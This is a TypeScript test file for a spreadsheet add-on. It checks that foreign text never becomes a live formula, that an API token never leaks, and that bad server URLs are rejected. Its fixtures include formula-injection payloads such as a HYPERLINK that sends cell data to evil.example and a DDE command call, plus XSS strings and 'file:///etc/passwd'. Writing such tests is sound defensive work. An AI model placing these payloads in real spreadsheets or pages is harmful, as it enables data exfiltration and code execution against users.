/** Foreign text stays text, through every writer; a token is nowhere but in the header of a request. */
import { drive, fillTab, plan } from '../../workbench/addon/jobs';
import { OWNER, workbench } from '../../workbench/addon/workbench';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '=cmd|"/c calc"!A0',
  '  =1+1',
  '=1+1\u0000',
  '﻿=1+1',
  '1/2',
  '2026-01-02',
  '1e5',
  'TRUE',
  '00123',
  '720575941473274509',
  '12%',
  '€5',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '{"a":"=1"}',
];

/** A link of the add-on's own tabs to a row: what is foreign in it is the quoted name of a tab, which is no text outside it. */
const TAB = "'(?:[^']|'')*'";
const CELLS = `${TAB}![A-Z]+:[A-Z]+`;
const ROW = `MATCH\\("\\*"&[A-Z]+\\d+&"\\*";${CELLS};0\\)`;
const ROW_LINK = new RegExp(
  `^=HYPERLINK\\(IFERROR\\("#gid=\\d+&range="&ADDRESS\\(${ROW};COLUMN\\(${CELLS}\\);4\\);"#gid=\\d+"\\);` +
    `IFERROR\\("row "&${ROW};"not there now"\\)\\)$`,
);

test.each(HOSTILE)('%j as a header, a tab, an old value and a title stays text', (text) => {
  const bench = workbench();
  const [id] = bench.cave.truth.sampleStale(1);
  const header = text.trim() === '' ? 'x' : text;
  bench.grid.setNumberFormats({ row: 1, column: 1, rows: 1, columns: 1 }, [['@']]);
  fillTab(bench, [id!]);
  bench.put(1, 1, [[`'${header}`]]);
  bench.put(1, 3, [['current_id']]);
  bench.put(2, 3, [[`'${text}`]]);
  bench.grid.name = text.slice(0, 50);
  const before = bench.grid.values({ row: 2, column: 3, rows: 1, columns: 1 })[0]![0];
  const first = bench.attempt('preview', [plan(bench)]);
  // A header that looks like an id is none: the job refuses to start, in words.
  if ('ok' in first && !first.ok) {
    expect(first.error.message).toMatch(/has no header/);
    expect(['1e5', '720575941473274509']).toContain(text);
    return;
  }
  const job = drive(bench, bench.call('startJob', [plan(bench)]).id);
  expect(job.state).toBe('done');
  bench.call('undo', []);
  expect(bench.grid.values({ row: 2, column: 3, rows: 1, columns: 1 })[0]![0]).toBe(before);
  for (const grid of bench.book.grids()) {
    const box = { row: 1, column: 1, rows: grid.lastRow(), columns: grid.lastColumn() };
    expect(
      grid
        .formulas(box)
        .flat()
        .filter((formula) => formula !== '' && !(grid !== bench.grid && ROW_LINK.test(formula))),
    ).toEqual([]);
  }
});

test('no token in any cell, note, property, log, cache entry, address, error or page', () => {
  const bench = workbench();
  const { token } = bench.cave;
  const ids = [...bench.cave.truth.sampleStale(4), '720575940000000001', '5'];
  fillTab(bench, ids);
  drive(bench, bench.call('startJob', [plan(bench, { headers: ['current_id', 'cable_length'] })]).id);
  bench.formula(2, 6, '=TT_DETAILS(A2:A7)');
  const messages: string[] = [];
  messages.push(JSON.stringify(bench.call('boot', [])));
  for (const kind of ['503', 'reset', 'cut', '500'] as const) {
    bench.cave.setFaults({ rate: 1, kinds: [kind] });
    bench.book.recalculate();
    messages.push(JSON.stringify(bench.attempt('whoAmI', [])));
    messages.push(JSON.stringify(bench.attempt('runTool', ['TT_VOLUME', { ids: ids[0] }])));
  }
  bench.cave.setFaults({ rate: 0 });
  messages.push(JSON.stringify(bench.attempt('saveToken', [`${token}ff`])));
  messages.push(JSON.stringify(bench.attempt(token as never, [])));
  for (const grid of bench.book.grids()) {
    const box = { row: 1, column: 1, rows: grid.lastRow(), columns: grid.lastColumn() };
    messages.push(JSON.stringify(grid.values(box)), JSON.stringify(grid.formulas(box)));
  }
  for (const sent of bench.host.sent) messages.push(sent.url);
  messages.push(JSON.stringify(bench.host.ui), JSON.stringify(bench.host.ran.map((ran) => ran.counters)));
  const { properties, caches, mails } = bench.host.world;
  messages.push(
    JSON.stringify([properties.named(`document ${bench.book.id}`).all(), properties.named('script').all()]),
  );
  messages.push(
    plainly(caches),
    JSON.stringify(mails),
    JSON.stringify(bench.host.ran.map((ran) => ran.logs)),
  );
  const leaks = messages.filter((text) => text.includes(token));
  expect(leaks.map((text) => text.slice(0, 200))).toEqual([]);
  expect(bench.host.sent.length).toBeGreaterThan(10);
});

/** Everything inside, maps too, as one text. */
function plainly(value: unknown): string {
  return JSON.stringify(value, (_key, item: unknown) => (item instanceof Map ? [...item] : item));
}

test('an editor who changes the server does not get the owner’s token sent there', () => {
  const bench = workbench();
  fillTab(bench, bench.cave.truth.sampleCurrent(1));
  bench.call('saveSettings', [{ server: 'https://evil.example' }], 'editor@example.org');
  const before = bench.host.sent.length;
  expect(String(bench.formula(2, 3, '=TT_IS_CURRENT(A2)'))).toMatch(/^#TT TOKEN/);
  expect(bench.attempt('whoAmI', [], OWNER)).toMatchObject({ ok: false, error: { code: 'TOKEN' } });
  expect(bench.host.sent.length).toBe(before);
});

test.each([
  'http://cave.example',
  'https://user:pass@cave.example',
  'https://cave.example/path',
  'https://cave.example?x=1',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'https://',
  '//cave.example',
])('%s is no server', (server) => {
  const bench = workbench({ bare: true });
  expect(bench.attempt('saveSettings', [{ server }])).toMatchObject({ ok: false, error: { code: 'INPUT' } });
});
